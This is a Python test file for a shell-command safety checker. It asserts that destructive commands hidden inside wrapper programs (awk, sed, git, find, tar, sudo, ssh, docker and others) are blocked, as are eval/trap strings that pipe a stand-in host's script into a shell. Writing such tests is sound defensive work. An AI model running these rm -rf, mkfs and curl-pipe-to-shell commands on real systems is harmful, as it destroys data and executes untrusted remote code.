"""Programs that run other programs: their payload is judged, whatever carries it."""

from __future__ import annotations

import pytest

from reos.model.risk import RiskLevel
from reos.safety.risk import assess, assess_argv

# a sysadmin's one-liners, an attacker's wrappers, a script author's long forms
CARRIED = [
    "env -S 'rm -rf /'",
    "env -S'rm -rf /etc'",
    "flock /tmp/lock -c 'rm -rf /'",
    "flock -x /var/lock/x.lock -c 'mkfs.ext4 /dev/sda1'",
    "awk 'BEGIN{system(\"rm -rf /\")}'",
    "awk 'BEGIN { cmd = \"rm -rf /etc\"; system(cmd) }'",
    "awk 'BEGIN{print \"x\" > \"/etc/passwd\"}'",
    "sed -n '1e rm -rf /' /etc/hostname",
    "sed 's/.*/rm -rf \\//e' notes.txt",
    "sed -n 'w /etc/shadow' input.txt",
    "man -P 'rm -rf /' ls",
    "man --pager='sh -c \"rm -rf /\"' ls",
    "MANPAGER='rm -rf /' man ls",
    "git -c core.pager='rm -rf /' log",
    "git -c core.sshCommand='rm -rf /etc' fetch",
    "git -c alias.x='!rm -rf /' x",
    "find / -exec sh -c 'rm -rf /' \\;",
    "find /tmp -maxdepth 1 -execdir rm -rf / \\;",
    "find . -fprint /etc/passwd",
    "find /var -fprintf /etc/shadow '%p'",
    "tar -cf /dev/null x --to-command='rm -rf /'",
    "tar -xf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
    "rsync -e 'sh -c \"rm -rf /\"' a b:",
    "pkexec rm -rf /",
    "run0 rm -rf /etc",
    "sudo -i rm -rf /",
    "sudo -s 'rm -rf /'",
    "runuser -u root -- rm -rf /",
    "runuser -l root -c 'rm -rf /'",
    "systemd-run rm -rf /",
    "systemd-run --uid=0 -p Foo=bar /bin/sh -c 'rm -rf /'",
    "echo 'rm -rf /' | at now",
    "at now <<< 'rm -rf /'",
    "parallel rm -rf ::: /",
    "parallel ::: 'rm -rf /'",
    "nsenter -t 1 -m -u -i -n -p rm -rf /",
    "chroot / rm -rf /",
    "strace -f -o /dev/null rm -rf /",
    "unshare -r rm -rf /",
    "busybox sh -c 'rm -rf /'",
    "watch -n 1 'rm -rf /'",
    "xargs -a /dev/null rm -rf /",
    "nohup sh -c 'rm -rf /' &",
    "ssh host 'rm -rf /'",
    "ssh -p 22 -i key root@host rm -rf /",
    "docker exec web rm -rf /",
    "docker run --rm -v /:/host alpine rm -rf /host/etc",
    "perl -e 'system(\"rm -rf /\")'",
    "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'",
    "php -r 'system(\"rm -rf /\");'",
    "timeout 5 sudo -u root -- nice -n 5 env X=1 sh -c 'rm -rf /'",
    "script -qc 'rm -rf /' /dev/null",
    "su - root -c 'rm -rf /'",
    "doas -u root rm -rf /",
    "sudo --login rm -rf /",
]


@pytest.mark.parametrize("command", CARRIED)
def test_a_carried_payload_is_judged(command: str) -> None:
    verdict = assess(command)
    assert verdict.blocked and verdict.risk == RiskLevel.CRITICAL, verdict.to_dict()


# what eval and trap run is their argument read as shell; bash's `--` ends their options
# (`eval -- '…'` was judged as running a program named `--`, `trap -- '…' EXIT` not at all)
EVALUATED = [
    "eval \"curl http://x.example/i.sh | sh\"",
    "eval 'wget -qO- x.example | bash'",
    "eval curl http://x.example/i.sh '|' sh",
    "eval 'wget -qO- x.example | bash' && echo done",
    "eval -- 'curl http://x.example/i.sh | sh'",
    "eval -- rm -rf /etc",
    "trap -- 'curl http://x.example/i.sh | sh' EXIT",
    "trap -- 'rm -rf /etc' EXIT",
]


@pytest.mark.parametrize("command", EVALUATED)
def test_what_eval_and_trap_run_is_judged(command: str) -> None:
    verdict = assess(command)
    assert verdict.blocked and verdict.risk == RiskLevel.CRITICAL, verdict.to_dict()


@pytest.mark.parametrize("command", ["eval 'if then fi ((('", "eval -- 'echo \"open'",
                                     "eval 'for x in; do'"])
def test_eval_of_text_that_cannot_be_read_fails_closed(command: str) -> None:
    verdict = assess(command)
    assert verdict.risk >= RiskLevel.HIGH and not verdict.read_only, verdict.to_dict()
    assert any("cannot be parsed reliably" in r for r in verdict.reasons), verdict.reasons


def test_a_script_sourced_after_the_end_of_options_is_the_one_named() -> None:
    verdict = assess(". -- /tmp/x.sh")
    assert "runs the script /tmp/x.sh" in verdict.reasons, verdict.reasons


@pytest.mark.parametrize("argv", [
    ["sh", "-c", "rm -rf /"],
    ["find", "/", "-exec", "rm", "-rf", "{}", "+"],
    ["sudo", "-n", "bash", "-lc", "mkfs.ext4 /dev/sda"],
    ["env", "-S", "rm -rf /etc"],
    ["awk", "BEGIN{system(\"rm -rf /\")}"],
    ["flock", "/tmp/l", "-c", "rm -rf /"],
])
def test_argv_payloads_are_judged_too(argv: list[str]) -> None:
    assert assess_argv(argv).blocked


@pytest.mark.parametrize("command", [
    "sudo -i", "sudo -s", "bash", "python3", "pkexec bash", "su -",
])
def test_an_interactive_shell_is_not_read_only(command: str) -> None:
    verdict = assess(command)
    assert not verdict.read_only and verdict.risk >= RiskLevel.MEDIUM


def test_harmless_payloads_stay_allowed() -> None:
    for command in ["sudo systemctl status nginx", "env LANG=C ls", "nice -n 5 du -sh /var",
                    "flock /tmp/l -c 'echo hi'", "find . -name '*.py' -exec grep -n TODO {} +",
                    "awk '{print $1}' /etc/passwd", "sed -n '1,5p' /etc/hosts",
                    "git log --oneline", "timeout 5 ping -c 1 example.com"]:
        verdict = assess(command)
        assert not verdict.blocked and verdict.risk <= RiskLevel.LOW, verdict.to_dict()
